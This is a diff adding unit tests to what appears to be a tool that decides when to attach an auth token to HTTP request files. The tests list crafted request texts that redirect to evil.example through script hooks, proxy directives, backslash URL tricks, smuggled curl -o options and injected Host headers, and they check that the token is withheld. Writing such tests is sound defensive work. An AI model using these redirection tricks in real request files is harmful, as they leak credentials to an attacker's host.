@@ -99,6 +99,58 @@ describe('who may get the header', () => {
     });
   }
 
+  describe('where something leads a request elsewhere', () => {
+    const evil = 'https://evil.example';
+    const get = `GET ${at}/config/clients`;
+    const doubted: readonly [title: string, format: RequestFormat, text: string][] = [
+      ['a script', http, `{{@request\nrequest.url = '${evil}';\n}}\n${get}\n`],
+      ['a proxy', http, `# @proxy http://evil.example\n# @noRejectUnauthorized\n${get}\n`],
+      ['another file', http, `# @import ./x.http\n${get}\n`],
+      ['a backslash', http, `GET ${acme.origin}\\@evil.example/${acme.customerId}/config/clients\n`],
+      ['a backslash', hurlFormat, `GET ${acme.origin}\\@evil.example/${acme.customerId}/config/clients\n`],
+      [
+        'a backslash',
+        posixFormat,
+        `curl "${acme.origin}\\@evil.example/${acme.customerId}/config/clients"\n`,
+      ],
+      ['a tab in a command', http, `curl\t-o ${evil} ${at}/config/clients\n`],
+      ['quotes in front of an option', http, `curl -s ''-o ${evil} ${at}/config/clients\n`],
+      ['a header that only REST Client reads', http, `${get}\n'x: 1\nHost: evil.example\n`],
+      ['a header with a variable for its name', http, `@h = Host\n${get}\n{{h}}: evil.example\n`],
+      ['a header behind another end of line', http, `${get}\nX: a\u2028Host: evil.example\n`],
+    ];
+    for (const [title, format, text] of doubted) {
+      it(`neither the reference nor the token: ${title}: ${text.trim()}`, () => {
+        for (const isLiteral of [false, true]) assert.match(outcome(format, text, { isLiteral }), /^unknown/);
+      });
+    }
+
+    it('not the second request of a block, which REST Client sends as the body of the first', () => {
+      const below = (between: string) => `POST ${evil}\n\n{}\n${between}\n${get}\n`;
+      for (const [format, text] of [
+        [http, below('')],
+        [http, below(' ###')],
+        [markdownFormat('restClient'), `\`\`\`http\n${below('###')}\`\`\`\n`],
+      ] as const) {
+        const cursors = [text.split('\n').indexOf(get)];
+        assert.match(outcome(format, text, { cursors }), /^unknown \d+: REST Client sends another request/);
+      }
+      const text = below('');
+      assert.equal(
+        outcome(httpFormat('httpYac'), text, { cursors: [text.split('\n').indexOf(get)] }),
+        'changed 1',
+      );
+    });
+
+    it('the reference, where a value is known to the client alone, and not the token', () => {
+      for (const header of ['If-Match: {{etag}}', 'X-A: {{$dotenv A}}', 'X-A: {{a.response.body.x}}']) {
+        const text = `${get}\n${header}\n`;
+        assert.equal(outcome(http, text), 'changed 1', header);
+        assert.match(outcome(http, text, { isLiteral: true }), /^unknown/, header);
+      }
+    });
+  });
+
   it('all but the token requests of the example', () => {
     const example = exampleFor(acme);
     assert.match(outcome(http, example, { cursors: [0] }), /^$|changed/);
